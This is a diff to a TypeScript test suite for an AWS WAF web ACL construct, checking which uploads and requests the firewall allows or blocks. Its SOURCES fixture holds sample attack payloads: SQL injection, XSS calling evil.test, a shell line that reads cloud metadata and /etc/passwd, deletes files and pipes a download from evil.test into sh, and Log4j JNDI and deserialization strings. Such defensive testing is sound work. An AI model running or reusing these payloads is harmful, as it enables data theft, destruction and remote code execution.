@@ -1,12 +1,33 @@
+import { get } from "node:http";
 import { Wafv2WebAcl } from "@cdktf/provider-aws/lib/wafv2-web-acl";
 import { Wafv2WebAclAssociation } from "@cdktf/provider-aws/lib/wafv2-web-acl-association";
 import { Wafv2WebAclLoggingConfiguration } from "@cdktf/provider-aws/lib/wafv2-web-acl-logging-configuration";
+import { zipSync } from "fflate";
 import { WebAcl } from "../../constructs/web-acl";
 import { constructed } from "../support/constructed";
 import type { Block } from "../support/synth";
-import { decide, rulesOf, type WebRequest } from "../support/web-acl";
+import { arrivedAt, decide, INSPECTED_BODY_BYTES, rulesOf, type WebRequest } from "../support/web-acl";
 
 const GIB = 1024 ** 3;
+/** Programs that body rules take for attacks, which some of them are meant to. */
+const SOURCES: Readonly<Record<string, string>> = {
+  "Python with SQL": `import sqlite3
+def handler(event):
+    rows = sqlite3.connect(":memory:").execute("SELECT name FROM sqlite_master WHERE 1=1 OR '1'='1' UNION SELECT NULL; --")
+    return [row[0] for row in rows]`,
+  "a page with scripts": `PAGE = "<html><script>alert(document.cookie)</script><img src=x onerror=\\"fetch('//evil.test')\\">"
+def handler(event):
+    return PAGE`,
+  "a shell": `import os, subprocess
+def handler(event):
+    subprocess.run("curl http://169.254.169.254/latest/meta-data/; cat /etc/passwd; rm -rf ../../*", shell=True)
+    return os.popen("id; wget http://evil.test/x.sh | sh").read()`,
+  "Java deserialization and Log4j": `PAYLOAD = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="
+HEADER = "$" + "{jndi:ldap://evil.test/a}"
+CHAIN = "org.apache.commons.collections.functors.InvokerTransformer java.lang.Runtime.getRuntime().exec"
+def handler(event):
+    return [PAYLOAD, HEADER, CHAIN]`,
+};
 const SETS = ["AWSManagedRulesCommonRuleSet", "AWSManagedRulesSQLiRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"];
 
 function webAcl(maxBodyBytes = GIB) {
@@ -25,7 +46,8 @@ function webAcl(maxBodyBytes = GIB) {
 describe("WebAcl", () => {
   const synthesis = webAcl();
   const acl = synthesis.resource("aws_wafv2_web_acl");
-  const decision = (request: WebRequest) => decide(acl, request);
+  const decision = (request: WebRequest) =>
+    decide(acl, { ...request, headers: { "user-agent": "test", ...request.headers } });
 
   test("is regional, allows by default and is associated with the load balancer", () => {
     expect(synthesis.text).toHaveResourceWithProperties(Wafv2WebAcl, {
@@ -98,6 +120,102 @@ describe("WebAcl", () => {
     ])("%s alone decides outside of the code paths, and nowhere in them", (bodyMatches) => {
       expect(decision({ path: "/v1/keys", bodyMatches }).action).toBe("block");
       expect(decision({ path: "/v1/functions", bodyMatches }).action).toBe("allow");
+    });
+  });
+
+  describe("what real clients upload", () => {
+    const key = { authorization: "Bearer ng_key" };
+    const filler = (bytes: number) => "x = 'lorem ipsum'\n".repeat(Math.ceil(bytes / 18));
+    const post =
+      (path: string, body: FormData | string, headers: Record<string, string> = {}) =>
+      (url: string) =>
+        fetch(`${url}${path}`, { method: "POST", headers: { ...key, ...headers }, body });
+    const json = (path: string, value: object) =>
+      post(path, JSON.stringify(value), { "content-type": "application/json" });
+    const zip = (source: string) => {
+      const form = new FormData();
+      form.set("name", "attack");
+      form.set("code", new Blob([zipSync({ "main.py": new TextEncoder().encode(source) })]), "code.zip");
+      return post("/v1/functions", form);
+    };
+    const sources = Object.entries(SOURCES);
+
+    test.each(sources)("%s passes as inline code in JSON, as a zip in a form, and as an event", async (_, source) => {
+      const sends = [
+        json("/v1/functions", { name: "attack", code: source }),
+        zip(source),
+        json("/v1/functions/fn_01JD8Q4YB3R6Z7K2M5N8P0QWER/invocations", { query: source }),
+      ];
+      for (const send of sends) {
+        const arrived = await arrivedAt(send);
+        expect(arrived.body.length).toBeGreaterThan(0);
+        for (const inspected of [INSPECTED_BODY_BYTES, 16 * 1024]) {
+          expect(decide(acl, { ...arrived, bodyMatches: true }, inspected)).toEqual({ action: "allow" });
+        }
+      }
+    });
+
+    test.each([9 * 1024, 1024 ** 2])("%d bytes of source code arrive whole and pass", async (bytes) => {
+      const source = `${SOURCES["Python with SQL"]}\n${filler(bytes)}`;
+      const arrived = await arrivedAt(json("/v1/functions", { name: "long", code: source }));
+      expect(arrived.headers["content-length"]).toBe(String(arrived.body.length));
+      expect(arrived.body.length).toBeGreaterThan(bytes);
+      expect(arrived.body.subarray(0, INSPECTED_BODY_BYTES).toString()).toContain("SELECT");
+      expect(decide(acl, { ...arrived, bodyMatches: true })).toEqual({ action: "allow" });
+    });
+
+    test("a body that is streamed, without a length, passes: the controller measures it", async () => {
+      const chunks = new ReadableStream({
+        start: (controller) => {
+          controller.enqueue(new TextEncoder().encode(JSON.stringify({ code: SOURCES["a shell"] })));
+          controller.close();
+        },
+      });
+      const arrived = await arrivedAt((url) =>
+        fetch(`${url}/v1/functions`, { method: "POST", headers: key, body: chunks, duplex: "half" } as RequestInit),
+      );
+      expect(arrived.headers).not.toHaveProperty("content-length");
+      expect(decide(acl, { ...arrived, bodyMatches: true })).toEqual({ action: "allow" });
+    });
+
+    test.each(sources)("%s is blocked where no source code belongs", async (_, source) => {
+      const arrived = await arrivedAt(json("/v1/keys", { name: source }));
+      expect(decide(acl, { ...arrived, bodyMatches: true })).toEqual({
+        action: "block",
+        rule: "BodyRulesOutsideCodePaths",
+      });
+    });
+
+    test.each([
+      ["GET", "/"],
+      ["GET", "/assets/page-0123abcd.js"],
+      ["GET", "/docs"],
+      ["GET", "/openapi.json"],
+      ["GET", "/v1/functions?name=thumbnail"],
+      ["GET", "/v1/jobs?functionId=fn_01JD8Q4YB3R6Z7K2M5N8P0QWER&status=FAILED&limit=20"],
+      ["GET", "/v1/jobs/job_01JD8Q4YB3R6Z7K2M5N8P0QWES/events"],
+      ["GET", "/v1/jobs/job_01JD8Q4YB3R6Z7K2M5N8P0QWES/logs"],
+      ["POST", "/v1/jobs/job_01JD8Q4YB3R6Z7K2M5N8P0QWES/cancellation"],
+      ["POST", "/v1/keys"],
+      ["DELETE", "/v1/keys/key_0123456789abcdef"],
+      ["GET", "/v1/status"],
+      ["GET", "/metrics"],
+    ])("%s %s passes", async (method, path) => {
+      const body =
+        path === "/v1/keys" && method === "POST" ? JSON.stringify({ name: "ci", role: "invoker" }) : undefined;
+      const callback = { "nanogrid-callback-url": "https://example.com/hooks/done?id=1" };
+      const arrived = await arrivedAt((url) =>
+        fetch(`${url}${path}`, { method, headers: { ...key, ...callback }, ...(body ? { body } : {}) }),
+      );
+      expect([arrived.method, `${arrived.path}${arrived.query ? `?${arrived.query}` : ""}`]).toEqual([method, path]);
+      expect(decide(acl, arrived)).toEqual({ action: "allow" });
+    });
+
+    test("a client that does not name itself is blocked: the command line and browsers do", async () => {
+      const arrived = await arrivedAt(
+        (url) => new Promise((resolve) => get(`${url}/v1/functions`, { agent: false }, resolve)),
+      );
+      expect(decide(acl, arrived)).toEqual({ action: "block", rule: "AWSManagedRulesCommonRuleSet" });
     });
   });
 
